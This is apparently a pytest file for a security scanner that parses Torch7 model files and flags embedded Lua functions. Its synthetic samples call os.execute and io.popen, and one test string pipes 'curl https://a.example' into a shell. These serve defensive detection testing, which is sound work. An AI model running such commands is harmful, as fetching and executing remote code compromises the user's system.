"""Torch7's objects, binary and ASCII; functions in them are code."""

import struct

import pytest
from hypothesis import given, settings

from garrison.core.facts import Artifact, EmbeddedCode
from tests.support import assert_no_failure, damaged, examine_bytes, facts_of, findings_of, worst

BYTECODE = b"\x1bLua\x51\x00\x01\x04\x08\x04\x08\x00"


def text(value: str | bytes) -> bytes:
    data = value.encode() if isinstance(value, str) else value
    return struct.pack("<i", len(data)) + data


def string(value: str) -> bytes:
    return struct.pack("<i", 2) + text(value)


def number(value: float) -> bytes:
    return struct.pack("<id", 1, value)


def boolean(value: bool) -> bytes:
    return struct.pack("<ii", 5, value)


def table(index: int, *entries: bytes) -> bytes:
    return struct.pack("<iii", 3, index, len(entries) // 2) + b"".join(entries)


def instance(index: int, name: str, content: bytes) -> bytes:
    return struct.pack("<ii", 4, index) + text("V 1") + text(name) + content


def tensor(index: int, kind: str = "Float", width: str = "f") -> bytes:
    storage = instance(index + 1, f"torch.{kind}Storage", struct.pack(f"<q3{width}", 3, 1, 2, 3))
    return instance(index, f"torch.{kind}Tensor", struct.pack("<iqqq", 1, 3, 1, 1) + storage)


def function(index: int, code: bytes, kind: int = 8) -> bytes:
    return struct.pack("<ii", kind, index) + text(code) + table(index + 1)


LINEAR = instance(
    1,
    "nn.Linear",
    table(
        2,
        string("weight"),
        tensor(3),
        string("train"),
        boolean(False),
        string("size"),
        number(3),
        string("bias"),
        struct.pack("<i", 0),
    ),
)
ASCII = (
    b"4\n1\n3\nV 1\n9\nnn.Linear\n3\n2\n2\n2\n6\nweight\n"
    b"4\n3\n3\nV 1\n18\ntorch.DoubleTensor\n1\n3\n1\n1\n4\n4\n3\nV 1\n"
    b"19\ntorch.DoubleStorage\n3\n1 2.5 -3e+07\n2\n4\nsize\n1\n3\n"
)


def _artifact(data: bytes) -> Artifact:
    return next(fact for fact in facts_of(data) if type(fact) is Artifact)


@pytest.mark.parametrize("data", [LINEAR, ASCII, table(1, string("a"), number(1)), table(1, number(1), tensor(2))])
def test_honest_objects_give_nothing(data: bytes) -> None:
    assert findings_of(data, "model.t7") == []
    assert [item.state for item in examine_bytes(data, "model.t7")] == ["examined"]
    assert _artifact(data).format == "torch7"


def test_they_are_described() -> None:
    assert _artifact(LINEAR).details == {
        "framework": "torch7",
        "encoding": "binary",
        "classes": "nn.Linear, torch.FloatStorage, torch.FloatTensor",
        "tensors": 1,
    }
    assert _artifact(ASCII).details["encoding"] == "ascii"


@pytest.mark.parametrize("kind", [7, 8])
def test_a_function_is_code(kind: int) -> None:
    harmless = instance(1, "nn.Lambda", table(2, string("f"), function(3, BYTECODE + b"\x04relu\x00", kind)))
    assert worst(findings_of(harmless, "model.t7")) == "high"
    evil = instance(1, "nn.Lambda", table(2, string("f"), function(3, BYTECODE + b"\x03os\x00\x08execute\x00", kind)))
    findings = findings_of(evil, "model.t7")
    assert worst(findings) == "critical" and "os.execute" in findings[0].message
    assert worst(findings_of(function(1, BYTECODE + b"\x03io\x00\x06popen\x00", kind), "f.t7")) == "critical"


def test_functions_behind_shared_and_nested_objects_are_found() -> None:
    shared = struct.pack("<ii", 3, 1)
    data = table(1, string("self"), shared, string("deep"), table(2, number(1), function(3, BYTECODE)))
    assert any(type(fact) is EmbeddedCode for fact in facts_of(data))


def test_an_ascii_function_is_found() -> None:
    code = BYTECODE + b"\x03os\x00\x08execute\x00"
    data = b"3\n1\n1\n2\n1\nf\n8\n2\n" + str(len(code)).encode() + b"\n" + code + b"\n3\n3\n0\n"
    assert worst(findings_of(data, "model.t7")) == "critical"


def test_text_with_the_names_of_torch_is_no_more_than_that() -> None:
    head = b"T7\0\0torch.FloatTensor nn.Sequential\n"
    assert findings_of(head + bytes(range(256)), "tensor.th") == []
    assert worst(findings_of(head + b"cmd = os.execute('curl https://a.example | sh')\n", "model.t7")) == "medium"


def test_what_follows_an_unknown_type_is_not_read() -> None:
    data = table(1, string("a"), struct.pack("<i", 77))
    assert [finding.rule for finding in findings_of(data, "model.t7")] == ["malformed"]
    huge = instance(1, "torch.FloatStorage", struct.pack("<q", 1 << 60))
    assert [finding.rule for finding in findings_of(huge, "model.t7")] == ["malformed"]


def test_nesting_is_no_recursion() -> None:
    data = b"".join(struct.pack("<iii", 3, index, 1) + number(1) for index in range(1, 20_000))
    assert examine_bytes(data, "deep.t7")[-1].state == "partial"


@given(damaged(LINEAR, ASCII, function(1, BYTECODE)))
@settings(max_examples=300, deadline=None)
def test_broken_files_do_not_fail(data: bytes) -> None:
    assert_no_failure(data)
